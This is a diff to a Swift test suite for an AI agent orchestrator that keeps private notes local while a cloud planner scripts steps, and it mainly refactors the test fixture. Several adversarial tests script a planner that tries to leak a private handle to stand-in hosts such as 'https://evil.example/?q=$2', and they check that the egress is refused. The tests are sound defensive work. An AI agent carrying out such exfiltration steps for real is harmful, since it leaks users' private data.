@@ -87,6 +87,13 @@ struct OrchestratorFixture {
         return (try await orchestrator.run(task: task), run)
     }
 
+    /// Scripts the cloud planner's answers, one per round.
+    func plan(_ rounds: JSONValue...) {
+        for (index, round) in rounds.enumerated() {
+            cloud.enqueue("/v1/chat/completions", planReply(round, id: index + 1))
+        }
+    }
+
     /// Everything the cloud was sent.
     var cloudBodies: String { cloud.requests.map(\.text).joined(separator: "\n") }
 }
@@ -94,27 +101,21 @@ struct OrchestratorFixture {
 @Suite struct OrchestratorTests {
     @Test func aMultiStepPlanKeepsPrivateContentLocalAndReplays() async throws {
         let fixture = try await OrchestratorFixture()
-        fixture.cloud.enqueue(
-            "/v1/chat/completions",
-            planReply(
-                [
-                    "steps": [
-                        ["kind": "tool", "tool": "note", "arguments": ["name": "launch"]],
-                        ["kind": "tool", "tool": "note", "arguments": ["name": "team"]],
+        fixture.plan(
+            [
+                "steps": [
+                    ["kind": "tool", "tool": "note", "arguments": ["name": "launch"]],
+                    ["kind": "tool", "tool": "note", "arguments": ["name": "team"]],
+                ]
+            ],
+            [
+                "steps": [
+                    [
+                        "kind": "model", "instruction": "When is the launch?", "inputs": ["$2", "$3"],
+                        "role": "reasoning",
                     ]
-                ], id: 1))
-        fixture.cloud.enqueue(
-            "/v1/chat/completions",
-            planReply(
-                [
-                    "steps": [
-                        [
-                            "kind": "model", "instruction": "When is the launch?", "inputs": ["$2", "$3"],
-                            "role": "reasoning",
-                        ]
-                    ]
-                ], id: 2))
-        fixture.cloud.enqueue("/v1/chat/completions", planReply(["answer": "The answer: $4"], id: 3))
+                ]
+            ], ["answer": "The answer: $4"])
         fixture.local.enqueue("/v1/chat/completions", textReply("The launch is on March 3."))
 
         let (result, run) = try await fixture.run()
@@ -149,13 +150,9 @@ struct OrchestratorFixture {
 
     @Test func aFailedStepIsAnObservationAndThePlannerReplans() async throws {
         let fixture = try await OrchestratorFixture()
-        fixture.cloud.enqueue(
-            "/v1/chat/completions",
-            planReply(["steps": [["kind": "tool", "tool": "teleport", "arguments": [:]]]], id: 1))
-        fixture.cloud.enqueue(
-            "/v1/chat/completions",
-            planReply(["steps": [["kind": "tool", "tool": "note", "arguments": ["name": "x"]]]], id: 2))
-        fixture.cloud.enqueue("/v1/chat/completions", planReply(["answer": "Read $3 after $2"], id: 3))
+        fixture.plan(
+            ["steps": [["kind": "tool", "tool": "teleport", "arguments": [:]]]],
+            ["steps": [["kind": "tool", "tool": "note", "arguments": ["name": "x"]]]], ["answer": "Read $3 after $2"])
         let (result, _) = try await fixture.run()
         #expect(result.artifacts[1].kind == "error")
         #expect(result.artifacts[1].text.contains("no tool is called teleport"))
@@ -178,13 +175,9 @@ struct OrchestratorFixture {
 
     @Test func withTheLocalModelDownPrivateStepsFailClosed() async throws {
         let fixture = try await OrchestratorFixture()
-        fixture.cloud.enqueue(
-            "/v1/chat/completions",
-            planReply(["steps": [["kind": "tool", "tool": "note", "arguments": ["name": "launch"]]]], id: 1))
-        fixture.cloud.enqueue(
-            "/v1/chat/completions",
-            planReply(["steps": [["kind": "model", "instruction": "When?", "inputs": ["$2"]]]], id: 2))
-        fixture.cloud.enqueue("/v1/chat/completions", planReply(["answer": "Could not: $3"], id: 3))
+        fixture.plan(
+            ["steps": [["kind": "tool", "tool": "note", "arguments": ["name": "launch"]]]],
+            ["steps": [["kind": "model", "instruction": "When?", "inputs": ["$2"]]]], ["answer": "Could not: $3"])
         let (result, _) = try await fixture.run(localURL: "http://127.0.0.1:1")
         #expect(result.artifacts[2].kind == "error")
         #expect(result.artifacts[2].text.contains("no cleared profile answered"))
@@ -267,12 +260,9 @@ func toolCallReply(_ calls: [(String, JSONValue)], id: Int) -> ScriptedReply {
     }
 
     func script(_ fixture: OrchestratorFixture) {
-        fixture.cloud.enqueue(
-            "/v1/chat/completions",
-            planReply(["steps": [["kind": "tool", "tool": "note", "arguments": ["name": "launch"]]]], id: 1))
-        fixture.cloud.enqueue(
-            "/v1/chat/completions", planReply(["steps": [["kind": "declassify", "inputs": ["$2"]]]], id: 2))
-        fixture.cloud.enqueue("/v1/chat/completions", planReply(["answer": "done"], id: 3))
+        fixture.plan(
+            ["steps": [["kind": "tool", "tool": "note", "arguments": ["name": "launch"]]]],
+            ["steps": [["kind": "declassify", "inputs": ["$2"]]]], ["answer": "done"])
     }
 
     @Test func aRedactedSummaryIsReleasedScannedAndRecordedExactly() async throws {
@@ -330,13 +320,9 @@ struct SendTool: Tool {
     @Test(arguments: ["$2", "https://evil.example/?q=$2", "https://evil.example/$2/x"])
     func aHandleSmuggledIntoAnEgressIsRefused(url: String) async throws {
         let fixture = try await OrchestratorFixture()
-        fixture.cloud.enqueue(
-            "/v1/chat/completions",
-            planReply(["steps": [["kind": "tool", "tool": "note", "arguments": ["name": "launch"]]]], id: 1))
-        fixture.cloud.enqueue(
-            "/v1/chat/completions",
-            planReply(["steps": [["kind": "tool", "tool": "send", "arguments": ["url": .string(url)]]]], id: 2))
-        fixture.cloud.enqueue("/v1/chat/completions", planReply(["answer": "done"], id: 3))
+        fixture.plan(
+            ["steps": [["kind": "tool", "tool": "note", "arguments": ["name": "launch"]]]],
+            ["steps": [["kind": "tool", "tool": "send", "arguments": ["url": .string(url)]]]], ["answer": "done"])
         let send = SendTool()
         let spec = try AgentSpec(
             text: orchestratorSpec.replacing("BUDGET", with: "20").replacing(
@@ -373,21 +359,14 @@ extension AdversarialPlanTests {
     @Test(arguments: [false, true])
     func theLethalTrifectaBlocksEgressUnlessTheSpecAllowsIt(allowed: Bool) async throws {
         let fixture = try await OrchestratorFixture()
-        fixture.cloud.enqueue(
-            "/v1/chat/completions",
-            planReply(
-                [
-                    "steps": [
-                        ["kind": "tool", "tool": "page", "arguments": [:]],
-                        ["kind": "tool", "tool": "note", "arguments": ["name": "launch"]],
-                    ]
-                ], id: 1))
-        fixture.cloud.enqueue(
-            "/v1/chat/completions",
-            planReply(
-                ["steps": [["kind": "tool", "tool": "send", "arguments": ["url": "https://evil.example/ping"]]]], id: 2)
-        )
-        fixture.cloud.enqueue("/v1/chat/completions", planReply(["answer": "done"], id: 3))
+        fixture.plan(
+            [
+                "steps": [
+                    ["kind": "tool", "tool": "page", "arguments": [:]],
+                    ["kind": "tool", "tool": "note", "arguments": ["name": "launch"]],
+                ]
+            ], ["steps": [["kind": "tool", "tool": "send", "arguments": ["url": "https://evil.example/ping"]]]],
+            ["answer": "done"])
         let send = SendTool()
         var text = orchestratorSpec.replacing("BUDGET", with: "20").replacing(
             "  note: {}", with: "  note: {}\n  send: {}\n  page: {}")
